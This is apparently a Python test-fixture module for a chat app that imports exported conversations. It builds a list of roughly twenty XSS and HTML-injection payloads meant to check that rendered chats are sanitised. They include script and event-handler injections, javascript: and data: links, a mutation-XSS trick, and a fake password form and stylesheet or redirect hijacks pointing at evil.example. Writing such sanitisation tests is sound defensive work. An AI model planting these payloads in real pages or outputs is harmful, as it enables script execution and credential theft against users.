"""What is on a server before the browser comes: chats in numbers, chats full of attacks."""

from __future__ import annotations

from collections.abc import Mapping
from io import BytesIO
from typing import Any

import aiohttp

from support.exchange_kit import conversation, export, message

SIMULATED = ("--engine", "simulated")
ECHO = """
[engine]
flags = "--echo --step-ms 4 --prefill-token-ms 0.01 --max-sequences 64 --context-window 262144"
"""
"""Every answer says again what was said in the chat, at once."""

FIRED = "fired"
"""The window's property that every attack sets, if it runs."""
_BAD = f"window.{FIRED}=1;alert(1)"
ATTACKS = (
    f"<script>{_BAD}</script>",
    f"<img src=x onerror='{_BAD}'>",
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    f"<svg onload='{_BAD}'><script>{_BAD}</script><image href=https://evil.example/a.svg></svg>",
    f"<svg><animate onbegin='{_BAD}' attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{FIRED}=1</script>'></iframe><iframe src=https://evil.example></iframe>",
    f'<a href="javascript:{_BAD}">a link</a>',
    f"[a link](javascript:{_BAD})",
    f"[a link](JaVaScRiPt&colon;{_BAD})",
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=https://evil.example/x.swf>",
    f"<details open ontoggle='{_BAD}'><summary>s</summary></details>",
    f"<input autofocus onfocus='{_BAD}'>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_BAD}&gt;">',
    f'```js" onclick="{_BAD}\n<script>{_BAD}</script>\n```',
    f"| a |\n| --- |\n| <img src=x onerror='{_BAD}'> |",
)
ATTACK = "\n\n".join((*ATTACKS, "The end of it."))


async def called(url: str, method: str, path: str, body: Any = None, params: Mapping[str, str] | None = None) -> Any:
    """What the server says in JSON; it has to agree."""
    async with aiohttp.ClientSession() as http, http.request(method, url + path, json=body, params=params) as response:
        assert response.status == 200, await response.text()
        return await response.json()


async def brought(url: str, *chats: dict[str, Any]) -> list[str]:
    """The ids of these chats of ChatGPT, imported."""
    fields = {"Content-Type": "application/octet-stream"}
    address = f"{url}/v1/chats/import?name=conversations.json"
    async with (
        aiohttp.ClientSession() as http,
        http.post(address, data=BytesIO(export(*chats)), headers=fields) as response,
    ):
        said = await response.json()
    assert (response.status, said["problems"]) == (200, [])
    return list(said["chats"])


def named(name: str, *texts: str, at: float = 1_700_000_000.0) -> dict[str, Any]:
    """A conversation with that title: questions and answers in turn."""

    def said(number: int, text: str) -> tuple[str, str, dict[str, Any]]:
        key = f"{name}-{number}"
        role = "assistant" if number % 2 else "user"
        return key, f"{name}-{number - 1}", message(key, role, text, at=at + number)

    nodes = [said(number, text) for number, text in enumerate(texts)]
    root = (f"{name}--1", None, None)
    return conversation(root, *nodes, id=name, conversation_id=name, title=name, create_time=at, update_time=at)


async def idle_chat(url: str, title: str) -> str:
    return str((await called(url, "POST", "/v1/chats", {"title": title}))["id"])


_BREAD = """\
Three things happen at once:

1. **Yeast** eats the sugar in the dough and gives off *carbon dioxide*.
2. **Gluten**, stretched by kneading, holds the bubbles.
3. **Heat** makes them grow, until the crust sets.

| dough | water | first rise |
| --- | ---: | ---: |
| sandwich loaf | 62 % | 1 h |
| ciabatta | 80 % | 3 h |

To scale a recipe by baker's percentages:

```python
def scale(flour_g: float, **percent: float) -> dict[str, int]:
    return {name: round(flour_g * share / 100) for name, share in percent.items()}

print(scale(500, water=72, salt=2, yeast=0.4))
```
"""
TITLES = (
    "A weekend in the mountains",
    "Names for a grey cat",
    "Letter to my future self",
    "How tides work",
    "Tests for the parser",
    "Recipes without an oven",
    "Why whales sing",
    "A tale about a lighthouse",
    "Questions for the interview",
    "SQL: a running total",
    "Words that have no translation",
)


def shelf(now: float) -> list[dict[str, Any]]:
    """Chats as people have them, of the last days; the first is worth a picture."""
    first = named("Why bread rises", "Why does bread rise?", _BREAD, at=now)
    others = (
        named(title, f"{title}, please.", "Gladly.", at=now - 3600.0 * (2 + 9 * number))
        for number, title in enumerate(TITLES)
    )
    return [first, *others]
